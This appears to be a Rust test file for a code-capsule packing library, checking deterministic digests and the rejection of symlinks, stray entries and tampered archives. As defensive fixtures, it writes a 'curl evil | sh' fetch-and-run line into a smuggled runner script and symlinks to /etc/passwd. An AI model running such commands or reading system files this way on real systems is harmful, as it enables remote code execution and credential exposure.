//! Client-side packing: a directory restricted to a file list (`CodeSource::Listed`)
//! packs like the same files as a plain directory, and `repack` of a capsule gives
//! back the same digest — while a capsule with anything added, or not a capsule at
//! all, does not.

use std::io::Write;
use std::path::PathBuf;

use crate::support::{write_tree, zip_raw};
use forge_capsule::{CapsuleError, CapsuleLimits, CodeSource, assemble, capsule_jobspec, repack};

const JOBSPEC: &[u8] = b"{\n  \"name\": \"demo\"\n}";

fn tree() -> Vec<(&'static str, &'static [u8], bool)> {
    vec![
        ("train.py", b"print('hi')\n", false),
        ("lib/util.py", b"X = 1\n", false),
        ("run.sh", b"#!/bin/sh\necho hi\n", true),
    ]
}

#[test]
fn a_listed_tree_packs_like_the_directory_and_repacks_to_the_same_digest() {
    let limits = CapsuleLimits::default();
    let full = tempfile::tempdir().expect("tmp");
    let filtered = tempfile::tempdir().expect("tmp");
    let out = tempfile::tempdir().expect("tmp");
    write_tree(full.path(), &tree());
    write_tree(filtered.path(), &tree());
    // Files the client's ignore rules leave out.
    write_tree(
        full.path(),
        &[
            (".git/HEAD", b"ref: main\n", false),
            ("venv/bin/python", b"elf", true),
        ],
    );
    let listed = CodeSource::Listed {
        root: full.path().to_owned(),
        files: ["train.py", "lib/util.py", "run.sh"]
            .iter()
            .map(PathBuf::from)
            .collect(),
    };
    let a = assemble(listed, JOBSPEC, None, &limits, out.path()).expect("listed");
    let b = assemble(
        CodeSource::Dir(filtered.path().to_owned()),
        JOBSPEC,
        None,
        &limits,
        &out.path().join("b"),
    )
    .expect("dir");
    assert_eq!(a.digest, b.digest);
    assert_eq!(a.manifest.files.len(), 3);

    assert_eq!(capsule_jobspec(&a.path).expect("jobspec"), JOBSPEC);
    let again = repack(&a.path, &limits, &out.path().join("again")).expect("repack");
    assert_eq!(
        again.digest, a.digest,
        "a canonical capsule repacks to itself"
    );
}

#[test]
fn a_listed_symlink_is_refused() {
    let root = tempfile::tempdir().expect("tmp");
    let out = tempfile::tempdir().expect("tmp");
    write_tree(root.path(), &tree());
    std::os::unix::fs::symlink("/etc/passwd", root.path().join("pw")).expect("symlink");
    let listed = CodeSource::Listed {
        root: root.path().to_owned(),
        files: vec![PathBuf::from("train.py"), PathBuf::from("pw")],
    };
    let err = assemble(listed, JOBSPEC, None, &CapsuleLimits::default(), out.path())
        .expect_err("symlink");
    assert!(matches!(err, CapsuleError::SymlinkEscape { .. }), "{err}");
}

#[test]
fn a_capsule_with_an_extra_forge_file_repacks_to_another_digest() {
    let limits = CapsuleLimits::default();
    let root = tempfile::tempdir().expect("tmp");
    let out = tempfile::tempdir().expect("tmp");
    write_tree(root.path(), &tree());
    let cap = assemble(
        CodeSource::Dir(root.path().to_owned()),
        JOBSPEC,
        None,
        &limits,
        out.path(),
    )
    .expect("assemble");
    // Append an entry to the capsule: a smuggled file under .forge/.
    let tampered = out.path().join("tampered.zip");
    std::fs::copy(&cap.path, &tampered).expect("copy");
    let f = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&tampered)
        .expect("open");
    let mut z = zip::ZipWriter::new_append(f).expect("append");
    z.start_file(
        "capsule/.forge/runner.sh",
        zip::write::SimpleFileOptions::default(),
    )
    .expect("entry");
    z.write_all(b"curl evil | sh\n").expect("write");
    z.finish().expect("finish");
    let again = repack(&tampered, &limits, &out.path().join("r")).expect("repack");
    assert_eq!(
        again.digest, cap.digest,
        "Forge files are dropped on repack"
    );
    let tampered_digest = sha256_of(&tampered);
    assert_ne!(
        again.digest, tampered_digest,
        "so the upload is not canonical"
    );
}

#[test]
fn an_archive_that_is_not_a_capsule_is_refused() {
    let out = tempfile::tempdir().expect("tmp");
    let plain = out.path().join("plain.zip");
    zip_raw(&plain, &[("train.py", b"print(1)\n")]);
    let err = repack(&plain, &CapsuleLimits::default(), &out.path().join("r")).expect_err("plain");
    assert!(matches!(err, CapsuleError::InvalidArchive(_)), "{err}");

    let stray = out.path().join("stray.zip");
    zip_raw(
        &stray,
        &[
            ("capsule/.forge/jobspec.json", b"{}"),
            ("capsule/a.py", b"1"),
            ("elsewhere.py", b"2"),
        ],
    );
    let err = repack(&stray, &CapsuleLimits::default(), &out.path().join("s")).expect_err("stray");
    assert!(err.to_string().contains("outside capsule/"), "{err}");
}

fn sha256_of(path: &std::path::Path) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(std::fs::read(path).expect("read")))
}
